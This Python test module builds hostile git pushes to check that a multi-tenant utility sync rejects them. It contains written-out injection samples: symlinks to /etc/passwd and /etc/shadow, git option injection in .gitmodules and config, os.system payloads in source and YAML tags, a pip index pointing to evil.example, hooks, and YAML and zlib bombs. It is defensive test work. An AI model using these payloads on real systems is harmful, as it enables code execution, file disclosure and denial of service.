"""Hostile input, one row for each kind: what is pushed, and what it must get.

A tenant has two good utilities. A push then changes one of them, `sibling`, and brings something hostile.
Either the hostile thing gets a finding and the sibling goes live, or the whole revision gets a clear
error and what ran before goes on. `hole` names the class of weakness that others had and this row tries.
"""

import dataclasses
import hashlib
import os
import random
import re
import zlib
from collections.abc import Callable

from rawgit import FILE, FOLDER, LINK, PERSON, SUBMODULE, RawRepository, size_bytes

ALPHA = b"def evil(data, filter):\n    return 1\n"
META = b"description: d\ncategory: c\ninput_label: i\nfilter_label: f\n"


class Push:
    """What a row can do: the good tree, and what it adds to it."""

    def __init__(self, repository: RawRepository, before):
        self.repository = self.r = repository
        self.before = before
        self.utils, self.root = [], []
        self.answer = b"2"
        self.commit_with = {}

    def add(self, name, data=ALPHA, mode=FILE):
        self.utils.append((mode, name if isinstance(name, bytes) else name.encode(), self.r.blob(data)))

    def utility(self, source=ALPHA, metadata=META, name="evil"):
        """The hostile utility: its source, its sidecar, or both."""
        self.add(f"{name}.py", source)
        self.add(f"{name}.yaml", metadata)

    def metadata(self, text):
        self.utility(metadata=text if isinstance(text, bytes) else text.encode())

    def tree(self, ordered=True):
        good = [
            (FILE, b"sibling.py", self.r.blob(b"def sibling(data, filter):\n    return %s\n" % self.answer)),
            (FILE, b"sibling.yaml", self.r.blob(META)),
        ]  # fmt: skip
        utils = self.r.tree(good + self.utils, ordered)
        return self.r.tree([(FOLDER, b"utils", utils), *self.root])

    def commit(self, **changes):
        return self.r.commit(self.tree(), [self.before] if self.before else [], **{**self.commit_with, **changes})


@dataclasses.dataclass
class Kind:
    """One row: `make` prepares a `Push`, and gives the value of the branch if it is not its commit."""

    name: str
    make: Callable[[Push], str | None]
    says: str
    phase: str = "degraded"
    sibling: bool = True
    hole: str = ""

    def __str__(self):
        return self.name.replace(" ", "_")


KINDS: list[Kind] = []


def kind(name, says, phase="degraded", sibling=None, hole=""):
    def add(make):
        KINDS.append(Kind(name, make, says, phase, phase != "failed" if sibling is None else sibling, hole))
        return make

    return add


def source(name, text, says, phase="degraded", hole=""):
    data = text if isinstance(text, bytes) else text.encode()
    kind(name, says, phase, hole=hole)(lambda p: p.utility(data))


def sidecar(name, text, says, phase="degraded", hole=""):
    data = text if isinstance(text, bytes) else text.encode()
    kind(name, says, phase, hole=hole)(lambda p: p.metadata(data))


# Made by whatever of this is run.
OWNED = f"/tmp/owned-{os.getpid()}"
LINKS = "symbolic links read from disk (CVE-2026-44881, CVE-2022-31036)"
PATHS = "path traversal (CVE-2022-24877, CVE-2022-24348)"
STOPS = "one tenant stops all (CVE-2022-24878, CVE-2022-39272)"
BOMBS = "YAML and size bombs (CVE-2022-31016, CVE-2023-40584)"
RUNS = "code run from data (CVE-2021-41254)"
ARGUMENTS = "arguments injected into git (CVE-2025-21613)"

# MARK: Trees


@kind("symbolic link to /etc/passwd", "FileMode", hole=LINKS)
def _(p):
    p.add("evil.py", b"/etc/passwd", LINK)
    p.add("evil.yaml", META)


@kind("sidecar that links out of the repository", "FileMode", hole=LINKS)
def _(p):
    p.add("evil.py")
    p.add("evil.yaml", b"../../../../../../etc/passwd", LINK)


@kind("symbolic link to a folder", "FileMode", "synced", hole=LINKS)
def _(p):
    p.add("more", b"/root", LINK)


@kind("symbolic link under lib", "FileMode", "synced", hole=LINKS)
def _(p):
    p.root.append((FOLDER, b"lib", p.r.tree([(LINK, b"words.py", p.r.blob(b"/etc/shadow"))])))


@kind("tenant.yaml that is a symbolic link", "tenant.yaml", "degraded|synced", hole=LINKS)
def _(p):
    p.root.append((LINK, b"tenant.yaml", p.r.blob(b"/etc/passwd")))


@kind("submodule", "FileMode|submodule", "degraded|synced")
def _(p):
    p.utils.append((SUBMODULE, b"sub", "1" * 40))


@kind("submodule with options for git in .gitmodules", "FileMode|submodule", "degraded|synced", hole=ARGUMENTS)
def _(p):
    text = b'[submodule "x"]\n\tpath = utils/sub\n\turl = --upload-pack=touch OWNED;\n\tupdate = !touch OWNED\n'.replace(b"OWNED", OWNED.encode())
    p.root.append((FILE, b".gitmodules", p.r.blob(text)))
    p.utils.append((SUBMODULE, b"sub", "1" * 40))


LFS = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12\n"
source("LFS pointer", LFS, "Git LFS pointer")
sidecar("LFS pointer as sidecar", LFS, "Git LFS pointer")

for title, name in {
    "..": b"..", ".": b".", ".git": b".git", "a slash": b"../../evil.py", "an absolute path": b"/etc/evil.py",
    "no characters": b"", "a newline": b"e\nvil.py", "control characters": b"e\x1b[2Jvil.py",
    "a backslash": b"..\\..\\evil.py", "bytes that are not UTF-8": b"\xff\xfe\xfa.py", "a dash first": b"--upload-pack=x.py",
    "right-to-left marks": "e\u202eyp.live.py".encode(), "spaces": b"evil .py", "a quote": b"ev'il\";`id`.py",
}.items():  # fmt: skip

    @kind(f"a name of {title}", "NameInvalid|FileMode|read a tree", "degraded|synced|failed", sibling=None,
          hole=ARGUMENTS if "dash" in title or "quote" in title else PATHS)  # fmt: skip
    def _(p, name=name):
        p.add(name)


@kind("a folder named ..", "path|Name|tree", "degraded|synced|failed", hole=PATHS)
def _(p):
    inner = p.r.tree([(FILE, b"evil.py", p.r.blob(ALPHA)), (FILE, b"evil.yaml", p.r.blob(META))])
    p.utils.append((FOLDER, b"..", inner))


@kind("a name of 4,096 bytes", "longer than|NameInvalid", "degraded|failed")
def _(p):
    p.add("e" * 4093 + ".py")


@kind("names that differ in case only", "NameDuplicate")
def _(p):
    p.utility(name="Evil")
    p.utility(name="eVIL")


@kind("names that differ in their Unicode form only", "NameInvalid")
def _(p):
    p.utility(name="caf\u00e9")
    p.utility(name="cafe\u0301")


@kind("one name twice in a tree", "twice|NameDuplicate|order|tree", "degraded|failed|synced")
def _(p):
    p.add("evil.py", ALPHA)
    p.add("evil.py", ALPHA + b"# other\n")
    p.add("evil.yaml", META)


@kind("a tree out of order", "order|tree|^$", "failed|synced")
def _(p):
    p.add("aaa.txt")
    tree = p.r.tree([(FILE, b"zzz.txt", p.r.blob(b"")), (FOLDER, b"utils", p.r.tree([
        (FILE, b"sibling.yaml", p.r.blob(META)),
        (FILE, b"sibling.py", p.r.blob(b"def sibling(data, filter):\n    return 2\n")),
    ], ordered=False))], ordered=False)  # fmt: skip
    return p.r.commit(tree, [p.before])


@kind("a tree of 100,000 files", "^$", "synced", hole=STOPS)
def _(p):
    blob = p.r.blob(b"")
    p.utils += [(FILE, b"f%06d.txt" % n, blob) for n in range(100_000)]


@kind("100,000 broken utilities", "at most 30000 are accepted", "failed", hole=STOPS)
def _(p):
    blob = p.r.blob(b"import os\n")
    p.utils += [(FILE, b"f%06d.py" % n, blob) for n in range(100_000)]


@kind("folders 1,000 deep", "nested deeper", "failed", hole=STOPS)
def _(p):
    tree = p.r.tree([(FILE, b"evil.py", p.r.blob(ALPHA))])
    for _ in range(1000):
        tree = p.r.tree([(FOLDER, b"d", tree)])
    p.utils.append((FOLDER, b"deep", tree))


@kind("a tree that unfolds to ten thousand million files", "more than 200000", "failed", hole=BOMBS)
def _(p):
    tree = p.r.tree([(FILE, b"%d.py" % n, p.r.blob(ALPHA)) for n in range(10)])
    for _ in range(9):
        tree = p.r.tree([(FOLDER, b"%d" % n, tree) for n in range(10)])
    p.utils.append((FOLDER, b"bomb", tree))


for title, mode in {"of no kind": b"0", "of a device": b"20666", "with letters": b"1006x4", "of a million digits": b"1" * 10**6}.items():

    @kind(f"a mode {title}", "tree|FileMode", "degraded|failed")
    def _(p, mode=mode):
        p.utils.append((mode, b"evil.py", p.r.blob(ALPHA)))


@kind("a tree cut in the middle", "tree|corrupt", "failed")
def _(p):
    whole = b"100644 evil.py\0" + bytes(20)
    tree = p.r.object("tree", whole[:-7])
    return p.r.commit(p.r.tree([(FOLDER, b"utils", tree)]), [p.before])


# MARK: Sources

source("10 MiB and one byte", ALPHA + b"#" * (10_485_761 - len(ALPHA)), "10485761 bytes", hole=BOMBS)
source("exactly 10 MiB", ALPHA + b"# words\n" * 1_310_715, "^$|limit", "synced|degraded")
source("NUL bytes", ALPHA + b"\0\0", "null bytes")
source("a byte order mark", b"\xef\xbb\xbf" + ALPHA, "^$", "synced")
source("CRLF", ALPHA.replace(b"\n", b"\r\n"), "^$", "synced")
source("CR alone", ALPHA.replace(b"\n", b"\r"), "^$|PythonSyntax", "synced|degraded")
source("UTF-16", ALPHA.decode().encode("utf-16"), "FileEncoding|PythonSyntax")
source("Latin-1 with a cookie", b"# -*- coding: latin-1 -*-\nX = '\xe9'\n" + ALPHA, "FileEncoding|PythonSyntax")
source("a cookie of no encoding", b"# coding: no-such-codec\n" + ALPHA, "FileEncoding|PythonSyntax|coding")
source("an encoding that runs code", b"# coding: rot13\nvzcbeg bf\n" + ALPHA, "FileEncoding|PythonSyntax|coding", hole=RUNS)
source("a million lines", b"x = 1\n" * 1_000_000 + ALPHA, "limit|complex", hole=BOMBS)
source("100,000 nested brackets", "(" * 100_000 + ")" * 100_000, "PythonSyntax", hole=BOMBS)
source("100,000 brackets that never close", "[" * 100_000, "PythonSyntax", hole=BOMBS)
source("100,000 unary operators", "x = " + "-" * 100_000 + "1\n", "PythonSyntax|complex", hole=BOMBS)
source("100,000 times not", "x = " + "not " * 100_000 + "1\n", "PythonSyntax|complex", hole=BOMBS)
source("100,000 attributes in a chain", "x = a" + ".a" * 100_000 + "\n" + ALPHA.decode(), "PythonSyntax|complex|limit")
source("100,000 calls in a chain", "x = a" + "()" * 100_000 + "\n" + ALPHA.decode(), "PythonSyntax|complex|limit")
source("100,000 additions", "x = " + "+".join(["'a'"] * 100_000) + "\n" + ALPHA.decode(), "PythonSyntax|complex|limit")
source("50,000 branches", "if x: pass\n" + "elif y: pass\n" * 50_000 + ALPHA.decode(), "PythonSyntax|complex|limit")
source("200 levels of indentation", "".join(" " * n + "if 1:\n" for n in range(200)) + " " * 200 + "pass\n", "PythonSyntax")
source("10,000 nested lambdas", "x = " + "lambda: " * 10_000 + "1\n" + ALPHA.decode(), "PythonSyntax|complex|limit")
source("nested f-strings", "x = " + "f'{" * 5000 + "1" + "}'" * 5000 + "\n", "PythonSyntax")
source("an integer of a million digits", "x = " + "9" * 1_000_000 + "\n" + ALPHA.decode(), "PythonSyntax")
source("an integer of a million hexadecimal digits", "x = 0x" + "f" * 1_000_000 + "\n" + ALPHA.decode(), "^$", "synced")
source("constants that would fill the memory", "x = 9 ** 9 ** 9\ny = 'a' * 10 ** 10\nz = (1,) * 10 ** 9\n" + ALPHA.decode(), "^$", "synced", hole=BOMBS)
source("a string of two million escapes", "x = '" + r"\x41" * 2_000_000 + "'\n" + ALPHA.decode(), "^$", "synced")
source("100,000 names to resolve", "".join(f"a{n} = a{n - 1}\n" for n in range(1, 100_000)) + "import os\n" + ALPHA.decode(), "NoImportOS|complex|limit", hole=STOPS)
source("aliases that double", "a0 = [eval]\n" + "".join(f"a{n} = a{n - 1} + a{n - 1}\n" for n in range(1, 200)) + "a199[0]('1')\n" + ALPHA.decode(), "NoExec", hole=STOPS)
source("letters that look like others", "import \uff4f\uff53\n" + ALPHA.decode(), "NoImportOS", hole=RUNS)
source("code that runs on import", f"__import__('os').system('touch {OWNED}')\n" + ALPHA.decode(), "NoImportOS", hole=RUNS)
source("random bytes", random.Random(1).randbytes(200_000), "FileEncoding|PythonSyntax")

# MARK: Sidecars

GOOD = META.decode()
sidecar("anchors", GOOD + "parameters: &a text\n", "anchor|MetadataSyntax")
sidecar("aliases", GOOD + "outputs: [&a x, *a]\n", "anchor|alias|MetadataSyntax")
sidecar("a thousand million laughs", "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)) + GOOD, "anchor|Metadata", hole=BOMBS)  # fmt: skip
sidecar("merge keys", GOOD + "<<: {timeout: 3}\n", "merge|<<|Metadata")
sidecar("a tag that would call os.system", GOOD + f"parameters: !!python/object/apply:os.system ['touch {OWNED}']\n", "tag|Metadata", hole=RUNS)
sidecar("10,000-deep flow lists", GOOD + "outputs: " + "[" * 10_000 + "]" * 10_000 + "\n", "Metadata", hole=BOMBS)
sidecar("10,000-deep flow maps", GOOD + "outputs: " + "{a: " * 10_000 + "1" + "}" * 10_000 + "\n", "Metadata", hole=BOMBS)
sidecar("10,000 lists that never close", GOOD + "outputs: " + "[" * 10_000, "Metadata", hole=BOMBS)
sidecar("a block 300 deep", GOOD + "outputs:\n" + "".join(" " * n + "- \n" for n in range(1, 300)), "Metadata")
sidecar("a key twice", GOOD + "category: other\n", "MetadataSyntax|twice|duplicate")
sidecar("5,000 unknown keys", GOOD + "".join(f"k{n}: 1\n" for n in range(5000)), "MetadataUnknownKey")
sidecar("an octal number", GOOD + "timeout: 0o17\n", "MetadataType|MetadataValue|^$", "degraded|synced")
sidecar("infinity", GOOD + "timeout: .inf\n", "MetadataType|MetadataValue")
sidecar("no number", GOOD + "timeout: .nan\n", "MetadataType|MetadataValue")
sidecar("a number of 60,000 digits", GOOD + "timeout: " + "9" * 60_000 + "\n", "MetadataType|MetadataValue")
sidecar("a number below the smallest", GOOD + "userid: -9223372036854775809\n", "MetadataType|MetadataValue")
sidecar("two documents", GOOD + "---\n" + GOOD, "MetadataSyntax")
sidecar("a directive", "%YAML 9.9\n---\n" + GOOD, "MetadataSyntax")
sidecar("keys that are lists", GOOD + "? [a, b]\n: 1\n", "Metadata")
sidecar("no key", GOOD + ": 1\n", "Metadata")
sidecar("NUL in YAML", GOOD + "parameters: 'a\0b'\n", "Metadata")
sidecar("YAML that is not UTF-8", GOOD.encode() + b"parameters: \xff\n", "FileEncoding")
sidecar("YAML in UTF-16", GOOD.encode("utf-16"), "FileEncoding|Metadata")
sidecar("64 KiB and one byte of YAML", GOOD + "#" * (65_537 - len(GOOD)), "65537 bytes", hole=BOMBS)
sidecar("900 KiB of YAML", GOOD + "x" * 900_000, "bytes; at most", hole=BOMBS)
sidecar("terminal escapes", GOOD + 'parameters: "\\e[2J\\e]0;owned\\a"\n', "^$|Metadata", "synced|degraded")
sidecar("packages with options for pip", GOOD + "packages: ['--index-url=http://evil.example/', 'x @ file:///etc']\n", "packages|Requirement|Metadata", hole=ARGUMENTS)


@kind("tenant.yaml of many laughs", "anchor|Metadata", "synced|degraded", hole=BOMBS)
def _(p):
    text = b"a: &a [x,x,x]\nb: &b [*a,*a]\nusers: {}\n"
    p.root.append((FILE, b"tenant.yaml", p.r.blob(text)))


@kind("tenant.yaml of 2 MiB", "bytes; at most", "synced|degraded", hole=BOMBS)
def _(p):
    p.root.append((FILE, b"tenant.yaml", p.r.blob(b"users: {}\n" + b"#" * (2 << 20))))


@kind("tenant.yaml that is a folder", "^$|tenant", "synced|degraded")
def _(p):
    p.root.append((FOLDER, b"tenant.yaml", p.r.tree([(FILE, b"x.yaml", p.r.blob(META))])))


# MARK: Commits


def commit(name, says, phase="synced", hole="", **changes):
    kind(name, says, phase, hole=hole)(lambda p: p.commit(**changes))


commit("a date of the year 292 million", "^$", author=b"M <m@x> 9223372036854775807 +0000", committer=b"M <m@x> 9223372036854775807 +9959")
commit("a date before all dates", "^$|commit", "synced|failed", author=b"M <m@x> -99999999999 -9999", committer=b"M <m@x> -1 +0000")
commit("a date of no digits", "^$|commit|corrupt", "synced|failed", committer=b"M <m@x> yesterday +0000")
commit("a date of 400 digits", "^$|commit|corrupt", "synced|failed", committer=b"M <m@x> " + b"9" * 400 + b" +0000")
commit("an author's name of 4 MiB", "^$", "synced", hole=STOPS, author=b"M" * (4 << 20) + b" <m@x> 1 +0000")
commit("a message of 7 MiB", "^$", "synced", hole=STOPS, message=b"m" * (7 << 20))
commit("a commit of 9 MiB", "limit", "failed", hole=BOMBS, message=b"m" * (9 << 20))
commit("a message with NUL and escapes", "^$", "synced", message=b"a\0b\x1b[2J\xff\xfe\n")
commit("no author's address", "^$|commit|corrupt", "synced|failed", author=b"nobody")


@kind("a commit with 10,000 parents", "^$|parents|held", "synced|failed|held", hole=STOPS)
def _(p):
    tree = p.tree()
    return p.r.commit(tree, [p.before] + [p.r.commit(tree, message=b"%d" % n) for n in range(10_000)])


@kind("a commit without a tree", "missing|corrupt|tree", "failed")
def _(p):
    return p.r.commit("1" * 40, [p.before])


@kind("a commit whose tree is a file", "tree|blob", "failed")
def _(p):
    return p.r.commit(p.r.blob(ALPHA), [p.before])


@kind("a commit whose parent is missing", "object not found", "failed")
def _(p):
    return p.r.commit(p.tree(), ["2" * 40])


@kind("a file that is missing", "missing|cannot be read", "degraded|failed")
def _(p):
    p.utils += [(FILE, b"evil.py", "3" * 40), (FILE, b"evil.yaml", p.r.blob(META))]


@kind("a file that is a folder", "tree|blob|cannot be read|FileMode", "degraded|failed")
def _(p):
    p.utils += [(FILE, b"evil.py", p.r.tree([])), (FILE, b"evil.yaml", p.r.blob(META))]


@kind("a file whose bytes are not those of its name", "corrupt|cannot be read|hash", "degraded|failed")
def _(p):
    name = hashlib.sha1(b"blob 4\0evil").hexdigest()
    p.r.store(name, zlib.compress(b"blob %d\0" % len(ALPHA) + ALPHA))
    p.utils += [(FILE, b"evil.py", name), (FILE, b"evil.yaml", p.r.blob(META))]


@kind("an object of random bytes", "corrupt|cannot be read|missing", "degraded|failed")
def _(p):
    p.utils += [(FILE, b"evil.py", p.r.store("4" * 40, os.urandom(500))), (FILE, b"evil.yaml", p.r.blob(META))]


@kind("an object of no bytes, after a crash", "corrupt|cannot be read|missing|empty", "degraded|failed")
def _(p):
    p.utils += [(FILE, b"evil.py", p.r.store("5" * 40, b"")), (FILE, b"evil.yaml", p.r.blob(META))]


@kind("an object that says it is small and inflates to 2 GB", "corrupt|cannot be read", "degraded|failed", hole=BOMBS)
def _(p):
    press = zlib.compressobj(9)
    data = press.compress(b"blob 64\0" + ALPHA)
    zeros = bytes(1 << 20)
    for _ in range(2048):
        data += press.compress(zeros)
    p.utils += [(FILE, b"evil.py", p.r.store("6" * 40, data + press.flush())), (FILE, b"evil.yaml", p.r.blob(META))]


@kind("an object that says it has 8 EiB", "bytes; at most|corrupt|cannot be read", "degraded|failed", hole=BOMBS)
def _(p):
    p.utils.append((FILE, b"evil.py", p.r.store("7" * 40, zlib.compress(b"blob 9223372036854775807\0x"))))
    p.add("evil.yaml", META)


@kind("a delta that grows to 2 GB", "bytes; at most|corrupt|cannot be read|missing", "degraded|failed", hole=BOMBS)
def _(p):
    base = b"x" * 65_536
    base_name = hashlib.sha1(b"blob 65536\0" + base).hexdigest()
    target = 2 << 30
    copies = (b"\xb0" + b"\xff\xff") * (target // 65_535)
    delta = size_bytes(len(base)) + size_bytes(target) + copies
    evil = "8" * 40
    p.r.pack([(base_name, 3, len(base), b"", base), (evil, 7, len(delta), bytes.fromhex(base_name), delta)])
    p.utils += [(FILE, b"evil.py", evil), (FILE, b"evil.yaml", p.r.blob(META))]


@kind("an index that points behind its pack", "corrupt|cannot be read|missing", "degraded|failed")
def _(p):
    p.r.pack([("c9" * 20, 3, 5, b"", b"hello")])
    for path in (p.r.path / "objects" / "pack").glob("*.pack"):
        path.write_bytes(path.read_bytes()[:14])
    p.utils += [(FILE, b"evil.py", "c9" * 20), (FILE, b"evil.yaml", p.r.blob(META))]


# MARK: Refs and repositories


@kind("a branch that is a tag", "^$", "synced")
def _(p):
    return p.r.tag(p.commit())


@kind("a branch that is a tag of a file", "no readable commit|corrupt", "failed")
def _(p):
    return p.r.tag(p.r.blob(ALPHA), "blob")


@kind("a branch that is 2,000 tags", "^$|no readable commit", "synced|failed", hole=STOPS)
def _(p):
    target, what = p.commit(), "commit"
    for _ in range(2000):
        target, what = p.r.tag(target, what), "tag"
    return target


@kind("a branch that is a file", "is a blob, not a commit", "failed")
def _(p):
    return p.r.blob(ALPHA)


@kind("a branch that is a tree", "is a tree, not a commit", "failed")
def _(p):
    return p.tree()


@kind("a branch that leads nowhere", "missing", "failed")
def _(p):
    return "9" * 40


@kind("a branch that leads to itself", "ref cannot be read|missing", "failed")
def _(p):
    return "ref: refs/heads/main"


@kind("a branch that leads out of the repository", "push ", "failed", hole=PATHS)
def _(p):
    return "ref: ../../../../../../etc/passwd"


@kind("a branch of 1 MiB", "ref cannot be read|corrupt", "failed")
def _(p):
    return "f" * (1 << 20)


@kind("grafts", "^$", "synced")
def _(p):
    commit = p.commit()
    (p.r.path / "info" / "grafts").write_text(f"{commit} {'1' * 40}\n")
    return commit


@kind("replace refs", "^$", "synced", hole=RUNS)
def _(p):
    commit = p.commit()
    p.add("evil.py", b"import os\n")
    p.r.ref(f"refs/replace/{commit}", p.r.commit(p.tree(), [p.before]))
    return commit


@kind("alternates that lead out of the repository", "alternates", "failed", hole=PATHS)
def _(p):
    (p.r.path / "objects" / "info" / "alternates").write_text("/tmp\n../../quiet.git/objects\n")
    return p.commit()


@kind("alternates that lead in a circle", "^$", "synced")
def _(p):
    (p.r.path / "objects" / "info" / "alternates").write_text("../objects\n")
    return p.commit()


@kind("a configuration that would run programs", "^$|config", "synced|failed", hole=RUNS)
def _(p):
    text = (p.r.path / "config").read_text()
    (p.r.path / "config").write_text(
        text + f"\tfsmonitor = touch {OWNED}\n\tsshCommand = touch {OWNED}\n\thooksPath = /tmp\n"
        f"\tworktree = /\n[include]\n\tpath = /etc/passwd\n[filter \"x\"]\n\tsmudge = touch {OWNED}\n"
    )  # fmt: skip
    return p.commit()


@kind("hooks that would run", "^$", "synced", hole=RUNS)
def _(p):
    (p.r.path / "hooks").mkdir()
    for name in ("post-receive", "post-update", "reference-transaction", "fsmonitor-watchman"):
        hook = p.r.path / "hooks" / name
        hook.write_text(f"#!/bin/sh\ntouch {OWNED}\n")
        hook.chmod(0o755)
    return p.commit()


@kind("a shallow history", "^$", "synced")
def _(p):
    commit = p.commit()
    (p.r.path / "shallow").write_text(p.before + "\n")
    return commit


@kind("packed refs of rubbish", "ref cannot be read|packed|corrupt|^$", "failed|synced")
def _(p):
    (p.r.path / "packed-refs").write_bytes(b"# pack-refs with: peeled\n" + os.urandom(4000))
    return p.commit()


@kind("100,000 packed refs", "^$", "synced", hole=STOPS)
def _(p):
    rows = "".join(f"{p.before} refs/heads/b{n:06d}\n" for n in range(100_000))
    (p.r.path / "packed-refs").write_text("# pack-refs with: peeled fully-peeled sorted \n" + rows)
    return p.commit()


@kind("2,000 folders of branches", "^$", "synced", hole=STOPS)
def _(p):
    for n in range(2000):
        (p.r.path / "refs" / "heads" / f"d{n}").mkdir()
    return p.commit()


@kind("a lock that stays", "^$", "synced", hole=STOPS)
def _(p):
    (p.r.path / "refs" / "heads" / "main.lock").write_text("")
    (p.r.path / "packed-refs.lock").write_text("")
    (p.r.path / "HEAD.lock").write_text("")
    commit = p.commit()
    (p.r.path / "refs" / "heads" / "main.lock").unlink()
    return commit


def matches(kind_, phase, text):
    """Whether an outcome is what the row asks for."""
    return phase in kind_.phase.split("|") and re.search(kind_.says, text, re.IGNORECASE | re.DOTALL) is not None
